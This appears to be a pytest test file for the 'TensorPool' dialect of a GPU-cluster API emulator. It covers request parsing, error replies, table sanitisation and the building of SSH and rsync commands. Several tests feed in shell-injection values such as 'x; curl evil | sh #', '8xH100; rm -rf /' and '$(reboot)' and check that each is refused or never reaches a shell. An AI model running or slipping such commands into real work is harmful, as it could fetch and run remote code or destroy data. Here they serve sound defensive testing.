"""TensorPool's dialect without a server: its tables are total, its commands harmless, its text plain."""

from __future__ import annotations

import shlex
from pathlib import Path
from typing import Any

import msgspec
import pytest

from muster.contracts.http import Call
from muster.core.catalog.snapshot import Catalog
from muster.core.clusters.snapshot import ClusterView
from muster.core.demo import demo_catalog
from muster.dialects.tensorpool import refusals, wire, words
from muster.dialects.tensorpool.asking import Misshapen, count, flag, read
from muster.dialects.tensorpool.document import page
from muster.dialects.tensorpool.fields import REQUESTS
from muster.dialects.tensorpool.jobs import JOB_STATUS
from muster.dialects.tensorpool.places import image_for, image_names
from muster.dialects.tensorpool.requests import patience
from muster.dialects.tensorpool.tables import pairs, table
from muster.dialects.tensorpool.template import TEMPLATE, read_spec
from muster.dialects.tensorpool.ways import download_command, ssh_command, upload_command
from muster.dialects.tensorpool.wire import NewCluster, NewStorage
from muster.errors import CALL_ERRORS, Invalid, RateLimited, Unsupported, WrongPhase
from muster.model.catalog import GpuType, Image, InstanceType, Price, Region
from muster.model.clusters import AccessFacts, Cluster, ClusterSpec, ClusterStatus, ClusterType, Node, NodeRole
from muster.model.events import RequestState
from muster.model.jobs import JobState
from muster.model.phases import NodePhase, Phase, VolumePhase


def catalog_of() -> Catalog:
    nouns = demo_catalog(0)

    def of(kind: Any) -> Any:
        return {noun.id: noun for noun in nouns if isinstance(noun, kind)}

    return Catalog(of(Region), of(GpuType), of(InstanceType), of(Image), of(Price))


CATALOG = catalog_of()


def call(body: Any = None, query: str = "") -> Call:
    raw = msgspec.json.encode(body) if body is not None else b""
    return Call(id="c", method="POST", path="/", params={}, raw_query=query.encode(), body=raw)


def test_every_phase_and_state_has_a_word() -> None:
    assert set(words.CLUSTER_STATUS) == set(Phase)
    assert set(words.INSTANCE_STATUS) == set(NodePhase)
    assert set(words.STORAGE_STATUS) == set(VolumePhase)
    assert set(words.REQUEST_STATUS) == set(RequestState)
    assert set(JOB_STATUS) == set(JobState)
    assert {error.code for error in CALL_ERRORS} == set(refusals.STATUS)


def test_requests_have_the_documented_types() -> None:
    known = {
        "CLUSTER_CLAIM",
        "CLUSTER_RELEASE",
        "CLUSTER_EDIT",
        "STORAGE_CREATE",
        "STORAGE_DESTROY",
        "STORAGE_ATTACH",
        "STORAGE_DETACH",
        "STORAGE_EDIT",
    }
    assert set(words.REQUEST_TYPE.values()) == known
    assert words.request_type("cluster", "restart") == "CLUSTER_EDIT"


@pytest.mark.parametrize(
    ("said", "gpu_type", "gpus"),
    [
        ("8xH100", "H100_SXM", 8),
        ("1xh200", "H200_SXM", 1),
        ("8xB200", "B200_SXM", 8),
        ("4xH100_SXM_INF", "H100_SXM_INF", 4),
    ],
)
def test_instance_types_are_names_of_the_catalogue(said: str, gpu_type: str, gpus: int) -> None:
    assert words.shape_of(said, CATALOG) == (gpu_type, gpus)


@pytest.mark.parametrize("said", ["", "H100", "3xH100", "8xZ80", "8x", "8xH100; rm -rf /", "-1xH100", "8xH"])
def test_other_instance_types_are_refused_with_the_list(said: str) -> None:
    with pytest.raises(Invalid) as refused:
        words.shape_of(said, CATALOG)
    assert "8xH100" in (refused.value.hint or "")


def test_every_word_for_an_instance_type_leads_back_to_it() -> None:
    for shape in CATALOG.instance_types.values():
        assert words.shape_of(words.instance_type_word(shape, CATALOG), CATALOG) == (shape.gpu_type, shape.gpus)
    assert words.instance_type_word(None, CATALOG) == ""


def test_a_container_is_an_image_in_the_region() -> None:
    image = CATALOG.images_in("Delhi")[0]
    for name in image_names(image):
        assert CATALOG.images[image_for(name, "Delhi", CATALOG)].region == "Delhi"
    with pytest.raises(Invalid):
        image_for(image.id, "Chennai", CATALOG)
    with pytest.raises(Invalid):
        image_for("pytorch/pytorch:latest", "", CATALOG)


# --- reading --------------------------------------------------------------------------------------------------------


def test_null_is_absent() -> None:
    said = read(
        call({"instance_type": "8xH100", "num_nodes": None, "public_keys": None, "container": None}), NewCluster
    )
    assert said == NewCluster(instance_type="8xH100")


@pytest.mark.parametrize(
    ("body", "loc"),
    [
        ({}, ["body", "instance_type"]),
        ({"instance_type": 8}, ["body", "instance_type"]),
        ({"instance_type": "8xH100", "num_nodes": 0}, ["body", "num_nodes"]),
        ({"instance_type": "8xH100", "public_keys": [1]}, ["body", "public_keys"]),
        ([], ["body"]),
    ],
)
def test_what_cannot_be_read_is_a_422_that_names_the_place(body: Any, loc: list[str]) -> None:
    with pytest.raises(Misshapen) as refused:
        read(call(body), NewCluster)
    reply = refusals.refusal(refused.value, call())
    told = msgspec.json.decode(reply.body)
    assert reply.status == 422
    assert told["detail"][0]["loc"][: len(loc)] == loc
    assert told["message"]


def test_a_size_is_at_least_one() -> None:
    with pytest.raises(Misshapen):
        read(call({"size": 0}), NewStorage)


@pytest.mark.parametrize(
    ("said", "means"), [("True", True), ("False", False), ("true", True), ("1", True), ("no", False)]
)
def test_booleans_are_read_as_python_writes_them(said: str, means: bool) -> None:
    assert flag(call(query=f"include_org={said}"), "include_org") is means
    assert flag(call(), "include_org") is False


@pytest.mark.parametrize("said", ["", "-1", "0", "1e9", "٣", "99999999999999999999"])
def test_counts_are_whole_and_bounded(said: str) -> None:
    with pytest.raises(Misshapen):
        count(call(query=f"size={said}"), "size", most=1000)


# --- refusals -------------------------------------------------------------------------------------------------------


def test_every_refusal_has_a_message_and_a_detail() -> None:
    for error in CALL_ERRORS:
        made = (
            RateLimited("slow down", retry_after_seconds=2.5)
            if error is RateLimited
            else error("no", hint="try again")
        )
        reply = refusals.refusal(made, call())
        told = msgspec.json.decode(reply.body)
        assert told["message"][0].isupper()
        assert told["detail"]
    assert msgspec.json.decode(refusals.crash(call()).body)["message"]


def test_a_field_keeps_its_spelling() -> None:
    assert refusals.message_of(Invalid("num_nodes: too few", hint="use more")) == "num_nodes: too few. Use more."


# --- text -----------------------------------------------------------------------------------------------------------


def test_tables_are_aligned_and_harmless() -> None:
    text = table(("ID", "NAME"), [("1", "x\x1b[2Jy\nz"), ("22", True)])
    assert text.splitlines() == ["ID  NAME", "1   x?[2Jy?z", "22  yes"]
    assert pairs([("A", 1), ("Long", ""), ("B", None), ("C", False)]) == "A  1\nC  no"


# --- what a client's shell is given ---------------------------------------------------------------------------------

JOB = "0f0e0d0c-0b0a-4908-8706-050403020100"
CLUSTER = "11111111-2222-4333-8444-555555555555"


def cluster(name: str = "c", phase: Phase = Phase.READY, **access: Any) -> Cluster:
    facts = {"ssh_user": "ubuntu", "ssh_host": "127.0.0.1", "ssh_port": 2222, "login_name": "login"} | access
    spec = ClusterSpec(type=ClusterType.SLURM, region="r", gpu_type="H", instance_type="8xH", workers=1, image_id="i")
    return Cluster(
        id=CLUSTER,
        account_id="a",
        project_id="p",
        name=name,
        live_name=name,
        region="r",
        phase=phase,
        phase_since=0,
        spec=spec,
        status=ClusterStatus(access=AccessFacts(**facts)),
        digest="",
        created_at=0,
        updated_at=0,
    )


def node(name: str, role: NodeRole = NodeRole.WORKER) -> Node:
    return Node(id=name, cluster_id="c", project_id="p", role=role, name=name, ordinal=0, phase_since=0, created_at=0)


def test_no_name_of_somebody_elses_reaches_a_shell() -> None:
    evil = cluster(name="x; curl evil | sh #")
    for command in (
        upload_command(evil, JOB),
        download_command(evil, JOB, None),
        ssh_command(ClusterView(evil, [node("worker-0")]), "worker-0"),
    ):
        assert "evil" not in command
        assert CLUSTER in command


def test_the_way_into_a_node_leads_through_the_login() -> None:
    view = ClusterView(cluster(), [node("login", NodeRole.LOGIN), node("worker-0")])
    assert shlex.split(ssh_command(view, "login"))[-1] == "ubuntu@127.0.0.1"
    inner = shlex.split(ssh_command(view, "worker-0"))
    assert inner[-1] == "ubuntu@worker-0"
    through = next(word for word in inner if word.startswith("ProxyCommand="))
    assert "-p 2222" in through
    assert "%h:%p" in through


def test_an_address_that_a_shell_would_obey_is_never_sent() -> None:
    with pytest.raises(ValueError, match="shell"):
        upload_command(cluster(ssh_host="$(reboot)"), JOB)


def test_there_is_no_way_into_what_is_not_there() -> None:
    with pytest.raises(WrongPhase):
        upload_command(cluster(phase=Phase.PAUSED), JOB)
    with pytest.raises(Unsupported):
        upload_command(cluster(simulated=True), JOB)


@pytest.mark.parametrize("path", ["-oProxyCommand=reboot", "a;b", "$(x)", "a\nb", "`x`", ""])
def test_a_private_key_is_a_path_or_refused(path: str) -> None:
    with pytest.raises(Invalid):
        download_command(cluster(), JOB, path)


def test_a_private_key_is_one_word() -> None:
    command = shlex.split(download_command(cluster(), JOB, "~/my keys/id"))
    ssh = shlex.split(command[command.index("-e") + 1])
    assert ssh[ssh.index("-i") + 1] == "~/my keys/id"


# --- jobs' configuration --------------------------------------------------------------------------------------------


def test_the_template_teaches_and_is_read_back() -> None:
    assert TEMPLATE.count("#") > 6
    assert read_spec(TEMPLATE).ignore == (".git", ".venv", "**/__pycache__")
    filled = TEMPLATE.replace('# "srun', '"srun')
    assert read_spec(filled).commands == ("srun python train.py",)


# --- patience -------------------------------------------------------------------------------------------------------


def test_who_waits_is_told_how_long() -> None:
    waiting = msgspec.structs.replace(cluster(), status=ClusterStatus(waiting_until=9_500))
    assert patience(waiting, 0) == 10
    assert patience(waiting, 9_400) == 1
    assert patience(None, 0) == 1
    far = msgspec.structs.replace(cluster(), status=ClusterStatus(waiting_until=10**9))
    assert patience(far, 0) == 15


# --- the page -------------------------------------------------------------------------------------------------------


def test_the_table_knows_every_field_that_is_read() -> None:
    for section in REQUESTS:
        assert set(section.fields) == {field.encode_name for field in msgspec.structs.fields(section.struct)}
    read_by_us = {
        struct for struct in vars(wire).values() if isinstance(struct, type) and issubclass(struct, wire.Body)
    }
    assert {section.struct for section in REQUESTS} == read_by_us - {wire.Body}


def test_the_page_is_what_the_tables_say() -> None:
    written = Path(__file__).resolve().parents[2] / "docs" / "dialects" / "tensorpool.md"
    assert written.read_text() == page(), (
        "python -m muster.dialects.tensorpool.document > docs/dialects/tensorpool.md"
    )
